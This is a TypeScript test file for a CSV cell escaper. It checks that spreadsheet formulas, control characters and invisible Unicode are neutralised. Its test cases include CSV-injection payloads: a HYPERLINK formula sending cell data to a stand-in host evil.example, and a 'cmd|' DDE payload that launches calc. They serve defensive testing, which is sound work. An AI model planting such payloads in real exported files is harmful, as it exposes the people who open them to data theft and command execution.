import fc from 'fast-check';
import { csvCell, csvRecord } from './csv-cell.ts';

/** RFC 4180 by its grammar, written apart from what writes it. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let at = 0;
  while (at < text.length) {
    let field = '';
    if (text[at] === '"') {
      for (at += 1; ; at += 1) {
        if (text[at] === '"' && text[at + 1] === '"') at += 1;
        else if (text[at] === '"') break;
        field += text[at] ?? '';
      }
      at += 1;
    } else {
      while (at < text.length && !',\r\n"'.includes(text[at]!)) field += text.charAt(at++);
    }
    fields.push(field);
    if (text[at] === ',') at += 1;
    else if (text.startsWith('\r\n', at)) {
      at += 2;
      records.push(fields);
      fields = [];
    } else throw new Error(`No CSV at ${at}`);
  }
  return records;
}

function undo(cell: string): string {
  const text = cell.startsWith("'") ? cell.slice(1) : cell;
  return JSON.parse(`"${text.replaceAll('"', '\\"')}"`) as string;
}

describe('a CSV field', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example?x="&A1,"open")', `"'=HYPERLINK(""http://evil.example?x=""&A1,""open"")"`],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1,1)', `"'@SUM(1,1)"`],
    ['\t=1+1', "'\\t=1+1"],
    ['\r=1+1', "'\\r=1+1"],
    ['\uff1d1+1', "'\uff1d1+1"],
    ['plain', 'plain'],
    ['a"b', '"a""b"'],
    ['a,b', '"a,b"'],
    ['a\r\n=1+1', 'a\\r\\n=1+1'],
    ['user\u202egnp.exe', 'user\\u202egnp.exe'],
    ['zero\u200bwidth\ufeff', 'zero\\u200bwidth\\ufeff'],
    ['\u2066isolate\u2069', '\\u2066isolate\\u2069'],
    ['\u001b[2J', '\\u001b[2J'],
    ['line\u2028separator', 'line\\u2028separator'],
    ['tag\u{e0041}', 'tag\\udb40\\udc41'],
    ['back\\u202eslash', 'back\\\\u202eslash'],
  ])('%j is written as %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('never begins a formula nor holds an invisible character, and can be read back, whatever it holds', () => {
    const nasty = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", '\\', '\u202e', '\u200b', ' ');
    const value = fc
      .array(fc.oneof(nasty, fc.string({ unit: 'binary' })), { maxLength: 6 })
      .map((parts) => parts.join(''));
    fc.assert(
      fc.property(
        fc.array(
          value.filter((one) => !one.startsWith("'")),
          { minLength: 1, maxLength: 5 },
        ),
        (values) => {
          const text = csvRecord(values);
          const [fields, ...more] = parseCsv(text);
          expect(more).toEqual([]);
          for (const field of fields!) {
            expect(field).not.toMatch(/^[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]/);
            expect(field).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
          }
          expect(fields!.map(undo)).toEqual(values);
        },
      ),
    );
  });
});
